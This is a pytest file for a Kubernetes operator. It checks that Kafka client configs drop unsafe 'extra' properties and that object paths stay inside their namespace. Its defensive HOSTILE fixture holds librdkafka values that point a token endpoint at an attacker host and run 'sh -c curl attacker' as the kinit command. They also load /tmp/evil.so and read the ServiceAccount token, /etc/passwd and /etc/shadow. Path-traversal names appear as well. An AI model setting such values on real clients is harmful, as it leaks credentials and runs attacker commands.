"""What the operator takes from a resource into its own process, and what it watches: the pure
parts of docs/security.md (the test bed proves the rest in tests/integration/test_operator_security.py)."""
from __future__ import annotations

from pathlib import Path
from typing import Any

import kopf
import pytest
import yaml
from kopf._cogs.structs.references import Resource

from afc.operator import reconcile, render
from afc.operator.kafka import OPERATOR_EXTRA_PROPERTIES, client_config
from afc.operator.kube import path_for

ROOT = Path(__file__).resolve().parents[2]


def spec(**kafka: Any) -> Any:
    s = yaml.safe_load((ROOT / "manifests" / "samples" / "afc_v1alpha1_adaptiveconsumer.yaml").read_text())["spec"]
    s["kafka"].update(kafka)
    return render.parse_spec(s)


def unchecked(extra: dict[str, str], **kafka: Any) -> Any:
    """A spec whose kafka.extra the model and the CRD now refuse (the allow-list), as the
    operator may still meet it: a resource stored before the rule existed keeps it (CEL
    ratcheting), and the operator must not depend on the apiserver for its own safety."""
    s = spec(**kafka)
    with pytest.raises(render.InvalidSpec):
        spec(extra=extra, **kafka)
    return s.model_copy(update={"kafka": s.kafka.model_copy(update={"extra": extra})})


# librdkafka properties that make a client read a file, run a command, call a URL or change how
# it authenticates: a resource's author must not reach the operator's files (its ServiceAccount
# token) or network position through them.
HOSTILE = {
    "security.protocol": "SASL_PLAINTEXT", "sasl.mechanism": "OAUTHBEARER",
    "sasl.oauthbearer.method": "oidc", "sasl.oauthbearer.token.endpoint.url": "http://attacker/token",
    "sasl.oauthbearer.grant.type": "urn:ietf:params:oauth:grant-type:jwt-bearer",
    "sasl.oauthbearer.assertion.file": "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "sasl.oauthbearer.config": "principal=admin", "sasl.kerberos.kinit.cmd": "sh -c 'curl attacker'",
    "ssl.ca.location": "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt",
    "ssl.certificate.location": "/etc/passwd", "ssl.key.location": "/etc/shadow",
    "ssl.engine.location": "/tmp/evil.so", "ssl.providers": "evil", "ssl.crl.location": "/x",
    "plugin.library.paths": "/tmp/evil.so", "sasl.username": "someone-else",
}


def test_the_operator_client_drops_every_extra_property_that_names_a_file_a_command_or_a_url() -> None:
    conf = client_config(unchecked(HOSTILE), {}, 2.0)
    assert not set(HOSTILE) - {"security.protocol"} & set(conf)
    assert conf["security.protocol"] == "PLAINTEXT"  # the spec's, not extra's
    assert "sasl.mechanism" not in conf and "sasl.username" not in conf


def test_the_operator_client_keeps_the_connection_tuning_it_allows() -> None:
    allowed = {"ssl.endpoint.identification.algorithm": "none", "client.dns.lookup": "use_all_dns_ips",
               "socket.keepalive.enable": "true", "broker.address.family": "v4"}
    assert set(allowed) <= OPERATOR_EXTRA_PROPERTIES
    conf = client_config(spec(extra={**allowed, "fetch.min.bytes": "1"}), {}, 2.0)
    assert {k: conf[k] for k in allowed} == allowed and "fetch.min.bytes" not in conf


def test_the_spec_security_wins_over_extra() -> None:
    conf = client_config(unchecked({"security.protocol": "PLAINTEXT"}, securityProtocol="SASL_SSL",
                                   saslMechanism="SCRAM-SHA-512", saslUsername="u",
                                   saslPasswordSecretRef={"name": "s", "key": "p"}), {"sasl_password": "pw"}, 2.0)
    assert (conf["security.protocol"], conf["sasl.mechanism"], conf["sasl.password"]) == ("SASL_SSL", "SCRAM-SHA-512", "pw")


@pytest.mark.parametrize("name", ["other/secret", "..", ".", "", "a?watch=true", "a%2Fb"])
def test_an_object_path_never_leaves_its_namespace(name: str) -> None:
    with pytest.raises(ValueError):
        path_for("Secret", "team-a", name)
    with pytest.raises(ValueError):
        path_for("Secret", name, "kafka")
    assert path_for("Secret", "team-a", "kafka.credentials") == "/api/v1/namespaces/team-a/secrets/kafka.credentials"


def test_children_and_pods_are_selected_by_label_on_the_server() -> None:
    """kopf sends settings.watching.label_selectors as the watch's and list's `labelSelector`
    (kopf/_cogs/clients/watching.py, fetching.py); a handler's `labels=` is client-side only."""
    settings = kopf.OperatorSettings()
    reconcile.select_own_objects(settings)
    for group, version, plural in (*reconcile.CHILDREN, ("", "v1", "pods")):
        assert settings.watching.label_selectors.collect(Resource(group, version, plural)) == [
            "app.kubernetes.io/managed-by=afc-operator"]
    for other in (Resource("afc.dev", "v1alpha1", "adaptiveconsumers"), Resource("", "v1", "secrets"),
                  Resource("", "v1", "events")):
        assert settings.watching.label_selectors.collect(other) == []
    labels = render.labels("orders")
    assert labels[render.L_MANAGED_BY] == render.MANAGED_BY  # what every child and pod carries
